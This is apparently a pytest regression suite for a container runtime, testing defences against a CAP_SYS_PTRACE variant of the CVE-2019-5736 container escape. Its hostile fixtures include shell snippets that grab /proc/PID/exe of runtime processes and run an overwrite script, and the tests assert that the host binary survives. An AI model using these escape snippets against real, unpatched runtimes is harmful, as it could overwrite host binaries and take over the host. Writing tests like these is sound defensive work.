"""CVE-2019-5736 by CAP_SYS_PTRACE: `/proc/PID/exe` of the runtime's processes that are in the container.

Until its exec such a process is a fork of our interpreter. Who has that capability over the runtime's user
namespace may open what it is executed from, wait until nobody executes it, and write to it.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from attacks.rig import OVERWRITE, Host
from runc.bundles import Bundle, Runtime
from support.process import wait_until

pytestmark = pytest.mark.root

TRACING = "CAP_SYS_PTRACE"
CAPABILITIES = ("CAP_DAC_OVERRIDE", TRACING)

# Hold what the container's first process is executed from, and overwrite it as soon as it is something else.
WAYLAY = "exec 3< /proc/1/exe && sh /overwrite"

# The same of any process that is executed from something of the host's.
LURK = """
while :; do
    for place in /proc/[0-9]*; do {
        case "$(readlink /proc/self/fd/3)" in
        /bin/busybox | /memfd:cutaway-exec*) ;;
        *) exec sh /overwrite ;;
        esac
    } 3< $place/exe; done 2> /dev/null
done
"""


@pytest.fixture
def hostile(bundle: Bundle) -> Bundle:
    """An image that would overwrite what it gets hold of; its program sleeps."""
    rootfs = bundle.rootfs
    (rootfs / "loot").mkdir()
    (rootfs / "overwrite").write_text(OVERWRITE)
    (rootfs / "waylay").write_text(f"#!/bin/sh\n{WAYLAY}\n")
    (rootfs / "waylay").chmod(0o755)
    bundle.config["root"]["readonly"] = False
    for names in bundle.process["capabilities"].values():
        names += CAPABILITIES
    bundle.process["args"] = ["sleep", "1000"]
    return bundle


def assert_copied(host: Host, hostile: Bundle, wanted: str = "/memfd:cutaway-python (deleted)") -> None:
    """Whoever looked saw the copy, and could do nothing to it, nor to the interpreter."""
    done = hostile.rootfs / "loot/done"
    wait_until(done.exists, "the attack is over")
    assert (hostile.rootfs / "loot/exe").read_text().strip() == wanted
    assert host.intact()


def test_of_a_created_container(runtime: Runtime, hostile: Bundle, host: Host, name: str) -> None:
    """Somebody executes a program of the image while the container waits for its start."""
    assert runtime.detached("create", "--bundle", hostile, name).code == 0
    assert runtime.detached("exec", "--detach", name, "/waylay").code == 0
    wait_until((hostile.rootfs / "loot/exe").exists, "the attack has begun")
    assert runtime("start", name).code == 0
    assert_copied(host, hostile)


def test_by_a_hook_inside_the_container(runtime: Runtime, hostile: Bundle, host: Host, name: str) -> None:
    (hostile.rootfs / "hook").write_text("#!/bin/sh\n/waylay &\nwhile [ ! -e /loot/exe ]; do :; done\n")
    (hostile.rootfs / "hook").chmod(0o755)
    hostile.config["hooks"] = {"startContainer": [{"path": "/hook", "env": ["PATH=/bin"]}]}
    assert runtime.detached("run", "--detach", "--bundle", hostile, name).code == 0
    assert_copied(host, hostile)


def test_of_a_process_of_exec(runtime: Runtime, hostile: Bundle, host: Host, name: str) -> None:
    """The image lies in wait for what an administrator executes in it."""
    hostile.shell(LURK)
    assert runtime.detached("run", "--detach", "--bundle", hostile, name).code == 0
    execute_until_caught(runtime, hostile, name)
    assert_copied(host, hostile)


def execute_until_caught(runtime: Runtime, hostile: Bundle, name: str) -> None:
    def caught() -> bool:
        assert runtime.detached("exec", name, "true").code == 0
        return (hostile.rootfs / "loot/exe").exists()

    wait_until(caught, "the attack has begun")


def test_by_a_program_that_was_executed_with_more(
    runtime: Runtime, hostile: Bundle, host: Host, name: str
) -> None:
    """The container itself may not trace; one of its processes was given that, and is still there."""
    for names in hostile.process["capabilities"].values():
        names.remove(TRACING)
    assert runtime.detached("run", "--detach", "--bundle", hostile, name).code == 0
    assert runtime.detached("exec", "--detach", "--cap", TRACING, name, "sh", "-c", LURK).code == 0
    execute_until_caught(runtime, hostile, name)
    assert_copied(host, hostile)


def test_by_another_container_of_the_pid_namespace(
    runtime: Runtime, hostile: Bundle, host: Host, name: str, place: Path
) -> None:
    hostile.shell(LURK)
    assert runtime.detached("run", "--detach", "--bundle", hostile, name).code == 0
    other = Bundle(place / "other").namespace("pid", f"/proc/{runtime.state(name)['pid']}/ns/pid")

    def caught() -> bool:
        assert runtime.detached("run", "--bundle", other, f"{name}-2").code == 0
        return (hostile.rootfs / "loot/exe").exists()

    wait_until(caught, "the attack has begun")
    assert_copied(host, hostile)


def test_who_may_not_trace_does_not_pay(runtime: Runtime, bundle: Bundle, host: Host, name: str) -> None:
    """A second start of the interpreter is most of what a call costs."""
    assert executable(runtime, bundle, name) == os.fspath(host.interpreter)


def test_a_user_namespace_of_its_own_is_enough(
    runtime: Runtime, hostile: Bundle, host: Host, name: str
) -> None:
    hostile.namespace("user")
    for kind in ("uidMappings", "gidMappings"):
        hostile.linux[kind] = [{"containerID": 0, "hostID": 0, "size": 1000}]
    assert executable(runtime, hostile, name) == os.fspath(host.interpreter)
    result = runtime("exec", name, "cat", "/proc/1/exe")
    assert "Permission denied" in result.err


def executable(runtime: Runtime, bundle: Bundle, name: str) -> str:
    """What a created container's first process is executed from."""
    runtime("delete", "--force", name)
    assert runtime.detached("create", "--bundle", bundle, name).code == 0
    return os.readlink(f"/proc/{runtime.state(name)['pid']}/exe")


def test_an_interpreter_that_starts_from_its_own_place_only(
    runtime: Runtime, hostile: Bundle, host: Host, name: str
) -> None:
    """A container that starts with a word of warning is better than none."""
    with host.interpreter.open("ab") as file:
        file.write(b"\0$ORIGIN/../lib\0")
    result = runtime.detached("create", "--bundle", hostile, name)
    assert (result.code, "$ORIGIN" in result.err) == (0, True)


def test_options_that_are_relative_paths(runtime: Runtime, hostile: Bundle, name: str, place: Path) -> None:
    """The runtime has changed to the bundle when it finds that it must start anew."""
    hostile.process["args"] = ["echo", "hello"]
    hostile.write()
    apart = 'cd "$1" && shift && exec "$@"'
    runtime.prefix = ("sh", "-c", apart, "sh", os.fspath(place))
    runtime.root = Path("root")
    result = runtime("run", "--bundle", "bundle", "--pid-file", "pid", name)
    runtime.prefix, runtime.root = (), place / "root"
    assert (result.code, result.out) == (0, "hello\n"), result.err
    assert (place / "pid").exists()
    assert not (place / "bundle/pid").exists()


def test_descriptors_are_passed_on(runtime: Runtime, hostile: Bundle, name: str, place: Path) -> None:
    (place / "file").write_text("by descriptor")
    hostile.shell("cat <&3")
    runtime.prefix = ("sh", "-c", 'exec "$@" 3< "$0"', os.fspath(place / "file"))
    result = runtime("run", "--preserve-fds", "1", "--bundle", hostile, name)
    assert (result.code, result.out) == (0, "by descriptor"), result.err
